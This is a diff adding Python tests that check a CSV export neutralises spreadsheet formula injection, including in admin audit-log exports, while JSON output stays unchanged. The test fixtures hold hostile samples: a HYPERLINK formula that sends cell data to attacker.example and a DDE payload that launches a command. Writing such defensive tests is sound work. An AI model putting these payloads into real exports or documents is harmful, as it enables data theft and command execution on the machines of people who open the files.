@@ -103,3 +103,43 @@ def test_no_secret_or_upload_url_in_a_zip_a_download_or_the_json_export(store):
     for leak in (SECRET.encode(), b"redpandaai", b"callback", b"ada@example.com"):
         assert leak not in everything and leak not in single and leak not in history_json([task])
     assert read_settings(single).kind == "edit"
+
+
+# -- spreadsheet-safe CSV ------------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://attacker.example/?"&A1,"details")', "=1+2", "+1+2", "-2+3", "@SUM(A1:A2)",
+    "\t=1+2", "\r=1+2", "=cmd|' /C calc'!A0", "-", "@", "=",
+]
+HARMLESS = ["a red fox", "", "1+1=2", "carol@example.com", "'quoted", "naïve café", "x\n=1", " =1"]
+
+
+def read_csv(data: bytes) -> list[list[str]]:
+    import csv as csv_module
+
+    return list(csv_module.reader(io.StringIO(data.decode(), newline="")))
+
+
+def test_every_formula_start_is_neutralised_and_everything_else_kept_exactly():
+    from kie.export import csv_bytes
+
+    rows = [{"text": value, "n": -3.5} for value in FORMULAS + HARMLESS]
+    table = read_csv(csv_bytes(rows, ["text", "n"]))
+    assert table[0] == ["text", "n"]
+    cells = [row[0] for row in table[1:]]
+    assert cells == ["'" + v for v in FORMULAS] + HARMLESS
+    assert all(row[1] == "-3.5" for row in table[1:])  # a number is a number, not a formula someone typed
+    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for row in table for c in row[:1])
+
+
+def test_the_admin_csvs_neutralise_a_deleted_prompt_and_a_hostile_name_but_json_stays_exact(store):
+    """The attack of issue 18: a prompt deleted into the audit log, a sign-in name starting with '='."""
+    from kie.export import csv_bytes
+
+    prompt = FORMULAS[0]
+    done_task(store, "task_hostile", prompt, 1)
+    store.audit("=evil@example.com", "delete", "task_hostile", prompt[:80], 1764000000.0)
+    table = read_csv(csv_bytes(store.audit_log(), ["actor", "action", "target", "detail"]))
+    assert table[1] == ["'=evil@example.com", "delete", "task_hostile", "'" + prompt]
+    exported = json.loads(history_json(store.query(limit=-1)))
+    assert exported["tasks"][0]["params"]["prompt"] == prompt
